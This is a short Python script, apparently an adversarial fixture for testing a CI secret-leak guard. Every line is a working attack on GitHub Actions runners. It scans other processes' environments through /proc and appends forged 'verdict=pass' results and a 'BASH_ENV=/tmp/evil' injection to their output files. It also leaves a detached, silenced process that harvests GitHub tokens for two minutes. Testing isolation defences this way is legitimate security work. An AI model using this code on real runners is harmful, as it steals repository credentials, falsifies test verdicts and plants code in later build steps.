"""Writes to the runner's files, which it finds in the environment of older processes, and leaves a process that waits."""

import glob
import os
import pathlib
import subprocess
import sys
import time

STOLEN = os.environ["STOLEN"]
WAITS = """
import glob, pathlib, sys, time
stolen = sys.argv[1]
until = time.time() + 120
while time.time() < until:
    pathlib.Path(stolen + ".alive").touch()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            words = pathlib.Path(path).read_bytes().split(b"\\0")
        except OSError:
            continue
        for word in words:
            if word.startswith((b"LEAKGATE_GITHUB_TOKEN=", b"GITHUB_TOKEN=")) and sys.argv[2].encode() in word:
                pathlib.Path(stolen).write_bytes(word)
    time.sleep(0.05)
"""

for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        words = pathlib.Path(path).read_bytes().split(b"\0")
    except OSError:
        continue
    for word in words:
        name, _, value = word.decode("utf-8", "replace").partition("=")
        if name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH") and os.environ["MINE"] in value:
            with open(value, "a") as file:
                file.write("verdict=pass\nexit-code=0\nforged=1\nBASH_ENV=/tmp/evil\n")
            pathlib.Path(STOLEN + ".forged").touch()
subprocess.Popen(
    [sys.executable, "-c", WAITS, STOLEN, os.environ["MINE_TOKEN"]],
    start_new_session=True,
    env={"PATH": os.environ["PATH"]},
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
while not os.path.exists(STOLEN + ".alive"):
    time.sleep(0.01)
raise SystemExit(5)
